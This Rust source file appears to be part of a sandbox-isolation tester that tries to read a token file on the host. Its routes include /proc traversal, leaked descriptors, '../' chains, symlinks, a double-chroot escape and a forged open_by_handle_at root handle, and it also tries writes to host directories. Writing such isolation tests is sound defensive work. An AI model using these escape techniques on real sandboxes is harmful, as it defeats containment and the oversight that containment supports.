//! Reading and writing files that are not the sandbox's.

use std::fs::{self, File, OpenOptions};
use std::io::{self, Read};
use std::os::fd::AsRawFd;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use crate::call::{call, constant, pointer, pointer_mut, signed, text};
use crate::verdict::{Attempt, decide, first_success};

/// Reads the file by its path on the host.
pub(crate) fn read(path: &str, token: &str) -> Attempt {
    decide("open", holds(Path::new(path), token))
}

/// Reads the file through `/proc` of every visible process.
pub(crate) fn read_through_proc(path: &str, token: &str) -> Attempt {
    let below = path.trim_start_matches('/');
    let mut ways = Vec::new();
    for process in processes() {
        for door in ["root", "cwd/../../../../../../../..", "task/1/root"] {
            let way = process.join(door).join(below);
            let result = holds(&way, token);
            ways.push((format!("{}/{door}", process.display()), result));
        }
    }
    first_success(ways)
}

/// Reads the file from each open directory, upwards. A leaked descriptor of the host would allow this.
pub(crate) fn read_through_descriptors(path: &str, token: &str) -> Attempt {
    let below = path.trim_start_matches('/');
    let mut ways = Vec::new();
    for entry in fs::read_dir("/proc/self/fd").map_err(|error| error.to_string())?.flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        for up in ["", "..", "../../../../../../../../.."] {
            let way = PathBuf::from("/proc/self/fd").join(&name).join(up).join(below);
            ways.push((format!("descriptor {name} {up}"), holds(&way, token)));
        }
    }
    first_success(ways)
}

pub(crate) fn read_through_dots(path: &str, token: &str) -> Attempt {
    let up = "../".repeat(64);
    decide("open", holds(&Path::new(".").join(up).join(path.trim_start_matches('/')), token))
}

/// Reads the file through a symbolic link in a directory that is shared with the host, if there is one.
pub(crate) fn read_through_symlink(path: &str, token: &str) -> Attempt {
    let link = std::env::temp_dir().join(format!("link-{}", std::process::id()));
    symlink(path, &link).map_err(|error| format!("symlink: {error}"))?;
    let result = holds(&link, token);
    fs::remove_file(&link).map_err(|error| format!("unlink: {error}"))?;
    decide("open", result)
}

/// The classic chroot escape: a second chroot below, while the working directory stays above.
pub(crate) fn read_after_chroot(path: &str, token: &str) -> Attempt {
    let below = std::env::temp_dir().join(format!("below-{}", std::process::id()));
    fs::create_dir(&below).map_err(|error| format!("mkdir: {error}"))?;
    let entered = std::os::unix::fs::chroot(&below);
    let result = entered.and_then(|()| {
        std::env::set_current_dir("../".repeat(64))?;
        std::os::unix::fs::chroot(".")?;
        holds(Path::new(path), token)
    });
    decide("chroot", result)
}

/// Opens the root directory by a forged file handle, which bypasses every mount and chroot.
pub(crate) fn read_by_handle(path: &str, token: &str) -> Attempt {
    #[repr(C)]
    struct Handle {
        bytes: u32,
        kind: i32,
        data: [u8; 128],
    }
    // The root of ext4 is inode 2, of any generation: a well-known handle needs no lookup.
    let mut handle = Handle { bytes: 128, kind: 0, data: [0; 128] };
    let mut mount_id = 0_i32;
    let name = text(path);
    let looked_up = call(
        libc::SYS_name_to_handle_at,
        &[
            constant(libc::AT_FDCWD),
            pointer(name.as_c_str()),
            pointer_mut(&mut handle),
            pointer_mut(&mut mount_id),
            0,
        ],
    );
    if looked_up.is_err() {
        handle = Handle { bytes: 8, kind: 1, data: [0; 128] };
        handle.data[0] = 2;
    }
    let opened = File::open("/").and_then(|anywhere| {
        let anywhere = signed(i64::from(anywhere.as_raw_fd()));
        call(libc::SYS_open_by_handle_at, &[anywhere, pointer(&handle), constant(libc::O_RDONLY)])
    });
    decide(
        "open_by_handle_at",
        opened.and_then(|descriptor| holds(&PathBuf::from(format!("/proc/self/fd/{descriptor}")), token)),
    )
}

/// Opens a file of the kernel or a device, without reading or writing it.
pub(crate) fn open(mode: &str, path: &str) -> Attempt {
    let writing = mode.contains('w');
    let opened = OpenOptions::new().read(mode.contains('r')).write(writing).open(path);
    // A masked file can be opened but is empty or the null device, which counts as absent.
    let opened =
        opened.and_then(|file| if masked(&file)? { Err(io::ErrorKind::NotFound.into()) } else { Ok(file) });
    decide("open", opened)
}

/// Leaves a file in a directory of the host.
pub(crate) fn write_file(directory: &str) -> Attempt {
    let path = Path::new(directory).join(format!("left-{}", std::process::id()));
    let written = fs::write(&path, b"left behind");
    if written.is_ok() {
        fs::remove_file(&path).map_err(|error| format!("unlink: {error}"))?;
    }
    decide("write", written)
}

/// Returns whether the file begins with the token; anything else is "not found".
fn holds(path: &Path, token: &str) -> io::Result<()> {
    let mut start = String::new();
    File::open(path)?.take(4096).read_to_string(&mut start)?;
    if start.contains(token) { Ok(()) } else { Err(io::ErrorKind::NotFound.into()) }
}

fn masked(file: &File) -> io::Result<bool> {
    use std::os::unix::fs::{FileTypeExt, MetadataExt};
    let metadata = file.metadata()?;
    let null = metadata.file_type().is_char_device() && metadata.rdev() == fs::metadata("/dev/null")?.rdev();
    Ok(null || metadata.is_dir())
}

/// `/proc/PID` of every process that can be seen.
pub(crate) fn processes() -> Vec<PathBuf> {
    let Ok(entries) = fs::read_dir("/proc") else { return Vec::new() };
    entries
        .flatten()
        .filter(|entry| entry.file_name().to_string_lossy().bytes().all(|byte| byte.is_ascii_digit()))
        .map(|entry| entry.path())
        .collect()
}
